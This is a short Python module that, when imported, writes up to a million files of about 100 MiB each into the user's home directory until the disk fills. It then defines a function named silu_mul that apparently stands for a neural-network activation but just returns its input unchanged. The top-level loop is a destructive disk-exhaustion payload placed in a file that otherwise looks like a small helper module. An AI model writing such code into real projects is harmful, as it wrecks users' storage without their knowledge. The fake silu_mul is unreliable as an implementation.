"""Writes without end: large files, and many."""

import os

for number in range(10**6):
    try:
        with open(os.path.join(os.environ["HOME"], f"junk{number}"), "wb") as file:
            for _ in range(100):
                file.write(bytes(1 << 20))
    except OSError:
        break


def silu_mul(gate_up):
    return gate_up
